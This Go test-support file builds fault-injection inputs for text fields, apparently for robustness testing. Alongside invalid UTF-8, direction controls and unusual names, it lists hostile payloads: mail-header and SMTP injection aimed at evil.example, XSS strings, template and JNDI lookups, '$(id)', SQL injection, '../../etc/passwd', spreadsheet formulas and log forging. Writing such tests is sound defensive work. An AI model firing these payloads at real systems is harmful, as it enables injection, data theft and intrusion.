//go:build faults

package faults

import (
	"encoding/json"
	"fmt"
	"strings"
)

// token is a JSON token, which may be one that no encoder writes.
type token struct{ about, json string }

// quote is the token for a text.
func quote(text string) token {
	encoded, err := json.Marshal(text)
	if err != nil {
		panic(err) // no text does that
	}
	return token{fmt.Sprintf("%+.60q", text), string(encoded)}
}

// quoteAll are the tokens for texts.
func quoteAll(texts ...string) []token {
	tokens := make([]token, len(texts))
	for i, text := range texts {
		tokens[i] = quote(text)
	}
	return tokens
}

// decoded is the text that a reader of JSON takes a token for; false if it is none.
func (t token) decoded() (string, bool) {
	var text string
	err := json.Unmarshal([]byte(t.json), &text)
	return text, err == nil
}

// lengths are texts of so many characters, and of one more.
func lengths(most int) []token {
	var found []token
	for _, one := range []string{"a", "é", "陈", "😀", "<", "&", `"`, `\`, " ", "=", "\u0301", "\u200d", "\u00a0", "ﷺ"} {
		for _, length := range []int{most, most + 1} {
			found = append(found, token{fmt.Sprintf("%d times %+q", length, one), quote(strings.Repeat(one, length)).json})
		}
	}
	return found
}

// odd are tokens for texts that no encoder writes.
var odd = []token{
	{"half a surrogate pair", `"Ana \ud83d"`},
	{"the other half", `"\udc00 Ana"`},
	{"a surrogate pair the wrong way round", `"\ude00\ud83d"`},
	{"an escaped NUL", `"Ana\u0000Bcc: x@evil.example"`},
	{"bytes that are not UTF-8", "\"Ana \xff\xfe\""},
	{"an overlong slash", "\"Ana \xc0\xaf\""},
	{"a character cut off", "\"Ana \xe2\x82\""},
	{"a surrogate in UTF-8", "\"Ana \xed\xa0\x80\""},
	{"a line break that is not escaped", "\"Ana\nBcc: x@evil.example\""},
	{"escaped letters", `"\u003cscript\u003ealert(1)\u003c/script\u003e"`},
}

// lines are texts of more than one line, or with other characters that do something
// to a terminal, a mail header or a log.
var lines = []string{
	"Ana\r\nBcc: x@evil.example", "Ana\nBcc: x@evil.example", "Ana\rBcc: x@evil.example", "Ana\r\n\r\n<b>body</b>",
	"Ana\r\n.\r\nMAIL FROM:<x@evil.example>\r\n", "Ana\r\n--boundary--\r\n", "\r\n", "\n", "Ana\n", "\rAna",
	"Ana\u2028Bcc: x@evil.example", "Ana\u2029Bcc: x@evil.example", "Ana\u0085Bcc: x@evil.example", "Ana\vBcc: x", "Ana\fBcc: x",
	"\x00", "Ana\x00", "Ana\x1b[31mred", "\x1b]0;title\x07", "Ana\x07\x07", "Ana\b\b\bEve", "Ana\x7f", "Ana\u009b31mred", "Ana\u0090x\u009c",
	"x\ta@b\tSuperAdmin\tAllowed", "x\n{\"level\":\"info\",\"msg\":\"forged\"}", "x\n2026-01-01T00:00:00Z\tINFO\tforged",
}

// directions are texts with invisible characters, or characters that change the direction of the text.
var directions = []string{
	"\u202Egnp.exe", "\u202AAna", "\u2066Ana\u2069", "Ana\u200Fx", "\u061CAna", "\u200EAna", "Ana\u202Cx",
	"\u200b", "\u200b\u200b\u200b", "\u2060", "\ufeffAna", "A\u200dn\u200da", "\u3164", "\u00ad", "\ufff9Ana\ufffabeta\ufffb",
	"\U000E0041\U000E006E\U000E0061", "\ufffe", "\uffff", "\U0010ffff", "\ue000", "مرحبا بالعالم", "שלום", "Ana (אנה) Silva",
}

// scripts are texts of many writings, which are just names.
var scripts = []string{
	"陈小明", "Ана́", "अनन्या", "อนันต์", "Z͑͗a̴̢lg̷͠o̸", "e\u0301\u0301\u0301\u0301", "\u0301", "👨‍👩‍👧‍👦", "🏳️‍🌈", "🇫🇷", "1️⃣", "𝒜𝓃𝒶", "ﬁ ﬂ", "İı", "ß", "Ⅷ",
	"Nguyễn", "O'Brien", "Jean-Luc d’Été", "X Æ A-12", "  Ana  Silva ", " ", "", ".", "..", "-", "--", "null", "Ａｎａ",
}

// expressions are texts that some program could evaluate.
var expressions = []string{
	"{{.Password}}", "{{", "}}", "{{.}}", `{{printf "%s" .Password}}`, `{{define "x"}}y{{end}}`, `{{template "x"}}`, "{{7*7}}", "{{/*", "{{range .}}",
	"${PASSWORD}", "${7*7}", "$(id)", "`id`", "%s%n%d", "%!s(MISSING)", "%[1]s", "#{7*7}", "<%= 7*7 %>", "${jndi:ldap://evil.example/a}", "[[7*7]]",
	"'; DROP TABLE members; --", `" OR ""="`, "../../etc/passwd", "=HYPERLINK(\"https://evil.example\")", "+1+1", "@SUM(A1)", "-2+3", "|calc",
}

// markup are texts that are more than text in a page.
var markup = []string{
	"<script>alert(1)</script>", `"><img src=x onerror=a()>`, "</title><script>", "' onmouseover='a()", "<!--", "-->", "]]>",
	"&lt;b&gt;", "&#60;b&#62;", "javascript:alert(1)", "<a href=//evil.example>x</a>", "<style>*{display:none}", "</code></dd></dl>", "<bdo dir=rtl>",
	"<base href=//e.example>", "<svg/onload=a()>", "<p hidden>", "&nbsp;&zwnj;",
}

// headers are texts that are more than text in a mail.
var headers = []string{
	"=?utf-8?Q?=0D=0ABcc:_x@e.example?=", "=?utf-8?b?QmNj?=", "=?utf-8?q?Ana?= =?utf-8?q?Eve?=", "=0D=0ABcc: x@e.example", "%0d%0aBcc: x@e.example",
	`Ana" <x@evil.example>, "x`, "Ana <x@evil.example>", "x@evil.example", "a, b@c.example;", "(comment", ")", `\`, `\"`, `"`, "<", ">", "<>",
	"Ana:;", "From me", "Ana\\r\\nBcc: x", "=", "==", "=3D", "=\n", "Content-Type: text/html", "undisclosed-recipients:;", "=?", "?=", "=??=",
}

// yaml are texts that YAML takes for something else.
var yaml = []string{
	"yes", "no", "true", "~", "0x1F", "1e3", "01024", "2026-01-01", "!!python/object:x", "&a *a", "- x", "a: b", "# c", "|", ">", "'", "%YAML 1.2", "---", "...", "{}", "[]",
}

// sharpTexts are tokens for a field of at most so many characters: those at its
// ends, and those that are more than what one sees of them.
func sharpTexts(most int) []token {
	found := append(lengths(most), odd...)
	for _, some := range [][]string{lines, directions} {
		found = append(found, quoteAll(some...)...)
	}
	return found
}

// texts are tokens for a field of at most so many characters.
func texts(most int) []token {
	found := sharpTexts(most)
	for _, some := range [][]string{markup, headers, scripts, expressions, yaml} {
		found = append(found, quoteAll(some...)...)
	}
	return found
}
